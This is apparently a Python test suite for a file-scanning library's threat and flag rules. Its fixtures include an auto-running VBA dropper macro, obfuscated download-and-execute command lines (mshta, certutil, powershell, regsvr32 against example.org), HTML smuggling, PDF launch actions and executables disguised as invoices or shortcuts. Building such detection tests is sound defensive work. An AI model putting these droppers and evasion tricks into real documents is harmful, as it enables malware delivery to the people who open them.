"""The rules: what is a threat, what is only flagged, and what is neither."""

import base64
import io
import struct
import zlib
from pathlib import Path

from sluice_inspect import inspect_file, threats
from tests.inspection.threats.compound_files import compound, packaged
from tests.inspection.threats.containers import docx, docx_with_package, pdf_launch, pdf_script
from tests.inspection.threats.packed_files import scan_bytes, threat_in, zipped
from tests.inspection.threats.test_program_names import PE
from tests.rows import each_row

_FOLDER = Path(threats.__file__).parent / "rules"
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
BASE64_PROGRAM = b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" * 2
SMUGGLING = b"<html><body><script>var a = atob('%b'); URL.createObjectURL(new Blob([a]));</script></body></html>"


def svg(inside: bytes, before: bytes = b"") -> bytes:
    return before + b'<svg xmlns="http://www.w3.org/2000/svg">' + inside + b"</svg>"


def vba_stream(source: bytes) -> bytes:
    """Return a stream with the source of a macro, compressed without back-references."""
    return b"performance cache" + packed_source(b"Attribute VB_Name\r\n" + source)


def packed_source(source: bytes) -> bytes:
    packed = b"\x01"
    for at in range(0, len(source), 3000):
        chunk = b"".join(b"\0" + source[index : index + 8] for index in range(at, min(at + 3000, len(source)), 8))
        packed += struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    return packed


def with_macro(source: bytes) -> bytes:
    project = compound({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/Module1": vba_stream(source)})
    return docx(project, "word/vbaProject.bin")


def with_listed_module(source: bytes, name: str = "Module1") -> bytes:
    """Return a project that lists where the source of its only module begins."""
    stream_name = name.encode("utf-16-le")
    records = ((0x0009, b"\1\0\0\0\1\0"), (0x001A, b"?"), (0x0032, stream_name), (0x0031, struct.pack("<L", 17)))
    listed = b"".join(struct.pack("<HL", kind, 4 if kind == 9 else len(body)) + body for kind, body in records)
    streams = {"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/dir": packed_source(listed)}
    return compound({**streams, f"VBA/{name}": b"performance cache" + packed_source(source)})


def active_mime(project: bytes) -> bytes:
    return b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0".ljust(0x32, b"\0") + zlib.compress(project)


DROPPER = b"""Sub AutoOpen()
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.org/a", False
CreateObject("WScript.Shell").Run "a.exe"
End Sub
"""


ARCHIVED_PAGE = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
    b"<html><head><link rel=Edit-Time-Data href=editdata.mso></head><body>a</body></html>\r\n--b\r\n"
    b"Content-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso"
    b"\r\n\r\n" + base64.encodebytes(active_mime(with_listed_module(DROPPER))) + b"\r\n--b--\r\n"
)
SELF_STARTING = [
    "Sub AutoOpen()", "Sub AUTO_OPEN()", "Sub AutoExit()", "Function AutoExec() As Long", "Sub Auto_Close()",
    "Private Sub  \t Document_Open()", "Sub _\r\n Document_Open()", "Sub  _ \r\n _\r\n\tAuto_Open()",
    "Sub [Auto_Open]()", "Public Static Sub Workbook_BeforeSave(ByVal a As Boolean, b As Boolean)",
    "Sub Document_ContentControlOnEnter(ByVal c As ContentControl)", "Sub Workbook_SheetCalculate(ByVal s As Object)",
    "Sub InkEdit1_GotFocus()", "Sub Frame1_Layout()", "Sub App_DocumentBeforeClose()", "x = 1: Sub Document_New()",
    "Sub WebBrowser1_DocumentComplete(ByVal d As Object, u As Variant)", "Sub Image7_MouseMove(ByVal b As Integer)",
    "Sub Fl\xe4che_GotFocus()", "Sub Loaded(ribbon As IRibbonUI)", "Sub\xa0AutoNew()",
]  # fmt: skip
NOT_SELF_STARTING = [
    "Sub Total()", "Sub CommandButton1_Click()", "' Sub AutoOpen()", "Rem Sub AutoOpen()", 'x = "Sub AutoOpen()"',
    "Sub AutoOpening()", "Call AutoOpen", "Sub UserForm_Initialize()",
]  # fmt: skip
FETCHING_AND_STARTING = [
    'Shell "mshta http://example.org/a"',
    'Shell "mshta.exe http://example.org/a.hta", 0',
    'Shell "cmd /c curl -o a.exe http://example.org/a & a.exe"',
    'Shell ("powershell iwr http://example.org/a -OutFile a.exe; .\\a.exe")',
    'CreateObject("WScr" & "ipt.Shell").Run "certutil -urlcache -f http://example.org/a a.exe"',
    'CreateObject("WScript" + ".Shell").Run "bits" & _\r\n "admin /transfer a"',
    'CreateObject(Chr(87) & "Script.She" & ChrW(&H6C) & "l").Exec "wget http://example.org/a"',
    'CreateObject(StrReverse("llehS.tpircSW")).Run Replace("cXuXrl -o a http://example.org/a", "X", "")',
    'Shell "cmd /c p^o^w^ershell i""w""r http://example.org/a"',
    'GetObject("script:http://example.org/a")',
    "Dim h As New XMLHTTP60\nShell a, 0",
    'Set h = CreateObject("Microsoft.XMLHTTP")\nVBA.Shell (a)',
    'URLDownloadToCacheFile 0, "http://example.org/a", b, 9, 0, 0\nShellExecuteA 0, "open", b, "", "", 0',
    'GetObject("winmgmts:").Get("Win32_Process").Create "regsvr32 /i:http://example.org/a scrobj.dll"',
    "Set h = New WinHttpRequest\nDim s As New WshShell\ns.Run a",
]  # fmt: skip
NOT_BOTH = [
    'x = "curl"',
    'Set h = CreateObject("MSXML2.XMLHTTP")',
    'Shell "notepad.exe"',
    '\' Shell "mshta http://example.org/a"',
    "curl = 1: wget = 2: Shell a",
    'Shell "explorer.exe " & Format(Now, "hh:nn")',
    'Shell "ftp -s:orders.txt"',
    'Shell "rundll32.exe printui.dll,PrintUIEntry"',
]


@each_row("procedure", SELF_STARTING)
def test_macro_that_office_runs_by_itself_is_flagged_in_every_spelling(procedure: str) -> None:
    flags = scan_bytes(with_macro(f"{procedure}\r\nMsgBox 1\r\n".encode("latin-1")))["flags"]
    assert flags == ["macro", "macro.autorun"]


def test_document_that_is_a_web_archive_with_macros_has_their_flag() -> None:
    report = inspect_file(io.BytesIO(ARCHIVED_PAGE), filename="a.doc")
    assert "macro" in report.flags
    assert report.facts["flags_complete"] is False


@each_row("line", NOT_SELF_STARTING)
def test_macro_that_a_person_runs_is_not_flagged_as_running_by_itself(line: str) -> None:
    assert scan_bytes(with_macro(f"{line}\r\nMsgBox 1\r\n".encode()))["flags"] == ["macro"]


@each_row("code", FETCHING_AND_STARTING)
def test_macro_that_fetches_and_starts_is_a_threat_where_it_runs_by_itself(code: str) -> None:
    threat = "Macro.Fetches-And-Starts"
    assert threat_in(with_macro(f"Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n".encode())) == threat
    assert threat_in(with_macro(f"Sub _\r\n\t[App_WorkbookOpen]()\r\n{code}\r\nEnd Sub\r\n".encode())) == threat
    assert threat_in(with_macro(f"Sub Update()\r\n{code}\r\nEnd Sub\r\n".encode())) is None


def test_macro_that_starts_in_one_module_and_fetches_in_another_is_a_threat() -> None:
    modules = {
        "VBA/ThisDocument": vba_stream(b"Sub AutoOpen()\r\nFetch\r\nEnd Sub\r\n"),
        "VBA/Module1": vba_stream(b'Sub Fetch()\r\nShell "mshta http://example.org/a"\r\nEnd Sub\r\n'),
    }
    assert threat_in(docx(compound(modules), "word/vbaProject.bin")) == "Macro.Fetches-And-Starts"


@each_row("code", NOT_BOTH)
def test_macro_that_does_not_fetch_and_start_is_no_threat(code: str) -> None:
    assert threat_in(with_macro(f"Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n".encode())) is None


@each_row(
    ("case", "data", "threat"),
    [
        ("svg, script", svg(b"<script>alert(1)</script>"), "Svg.Script"),
        ("svg, prefixes", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>', "Svg.Script"),
        (
            "svg, prolog",
            svg(b"<script/>", b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a --><!DOCTYPE svg [<!ENTITY a 'b'>]>"),
            "Svg.Script",
        ),
        ("svg, after a page in a comment", svg(b"<script/>", b"<!-- <html> -->"), "Svg.Script"),
        ("page with an embedded program", SMUGGLING % BASE64_PROGRAM, "Script.Smuggled-Program"),
        ("pdf that starts its attachment",
         pdf_script("this.exportDataObject({cName: 'a', nLaunch: 2});"), "Pdf.Launches-Attachment"),
        ("pdf that starts a command", pdf_launch("cmd.exe /c calc"), "Pdf.Launches-Program"),
        ("pdf that starts a program of Windows", pdf_launch("setup.EXE", "/Win"), "Pdf.Launches-Program"),
        ("packaged program", docx_with_package(PE, b"invoice.pdf.exe"), "Package.Program"),
        ("packaged script", docx_with_package(b"x=1", b"a.js"), "Package.Program"),
        ("packaged program under another name", docx_with_package(PE, b"invoice.txt"), "Package.Program"),
        ("packaged program without an extension", docx_with_package(PE, b"invoice"), "Package.Program"),
        ("packaged shortcut", packaged(b"x", b"a.lnk"), "Package.Program"),
        ("shortcut under the name of a document", zipped({"letter.pdf": SHORTCUT}), "Disguised-Program.Shortcut"),
        ("macro that fetches and starts", with_macro(DROPPER), "Macro.Fetches-And-Starts"),
        ("macro without the usual words", docx(with_listed_module(DROPPER), "a.bin"), "Macro.Fetches-And-Starts"),
        ("macro behind other words", docx(with_listed_module(b"' a\n" + DROPPER), "a.bin"), "Macro.Fetches-And-Starts"),
        (
            "macro in other letters",
            docx(with_listed_module(b"attribute vb_name\n" + DROPPER, "\u0416"), "a.bin"),
            "Macro.Fetches-And-Starts",
        ),
        ("macro of a web page", zipped({"a.mso": active_mime(with_listed_module(DROPPER))}), "Macro.Fetches-And-Starts"),
        ("macro of a web archive", ARCHIVED_PAGE, "Macro.Fetches-And-Starts"),
    ],
)  # fmt: skip
def test_content_that_acts_by_itself_is_a_threat(case: str, data: bytes, threat: str) -> None:
    assert threat_in(data) == threat


@each_row(
    ("case", "data", "flags"),
    [
        ("macro", with_macro(b"Sub Sum()\nEnd Sub\n"), ["macro"]),
        ("macro that runs by itself",
         with_macro(b"Private Sub Document_Open()\nMsgBox 1\nEnd Sub\n"), ["macro", "macro.autorun"]),
        ("macro in several chunks",
         with_macro(b"' " + b"x" * 9000 + b"\nSub Workbook_Open()\nEnd Sub\n"), ["macro", "macro.autorun"]),
        ("macro without source", docx(compound({"VBA/_VBA_PROJECT": b"\xcc\x61"}), "word/vbaProject.bin"), ["macro"]),
        ("sheet of macros", compound({"Workbook": struct.pack("<HHLBB", 0x85, 6, 0, 0, 1)}), ["macro.sheet"]),
        ("packaged text", docx_with_package(b"text", b"a.txt"), ["package"]),
        ("page with a script", b"<html><script>1</script></html>", ["script.html"]),
        ("pdf with a script", pdf_script("app.alert(1)"), ["script.pdf"]),
        ("pdf that opens another", pdf_launch("other.pdf"), ["launch.pdf"]),
    ],
)  # fmt: skip
def test_possibly_harmless_content_is_flagged(case: str, data: bytes, flags: list[str]) -> None:
    result = scan_bytes(data)
    assert (result["threat"], result["complete"], result["flags"]) == (None, True, flags)


@each_row(
    ("case", "data"),
    [
        ("svg that mentions scripts", svg(b"<title>on load = never</title><desc>a script: none</desc>")),
        ("text about scripts", b"A text about script elements and javascript: in SVG"),
        ("text about macros", b"Sub AutoOpen() is run by Word; so is MSXML2.XMLHTTP with WScript.Shell"),
        ("document that mentions commands", docx(b"<w:t>cmd.exe /c</w:t>", "word/footer.xml")),
        ("page with a link to a program", b"<html><a href='a.exe'>program</a></html>"),
    ],
)
def test_text_about_threats_is_neither_threat_nor_flag(case: str, data: bytes) -> None:
    result = scan_bytes(data)
    assert (result["threat"], result["complete"], result["flags"]) == (None, True, [])


def test_only_the_eicar_rule_applies_to_unknown_content() -> None:
    # `rulebook.apply` skips such content unless it contains EICAR
    rules = [rule for path in _FOLDER.glob("*.yar") for rule in path.read_text().split("\nrule ")[1:]]
    conditions = {rule.split()[0]: rule.partition("condition:")[2] for rule in rules}
    general = [name for name, each in conditions.items() if "kind ==" not in each and "says " not in each]
    assert general == ["eicar"]


def test_every_rule_has_a_name_and_one_tag() -> None:
    from sluice_inspect.threats.rulebook import compiled  # noqa: PLC0415  (loads the library)

    rules = list(compiled())
    assert rules
    for rule in rules:
        assert dict(rule.metadata)["name"], rule.identifier
        assert list(rule.tags) in (["threat"], ["flag"]), rule.identifier


def test_rule_files_are_not_threats_themselves() -> None:
    for path in _FOLDER.iterdir():
        assert threat_in(path.read_bytes(), path.name) is None
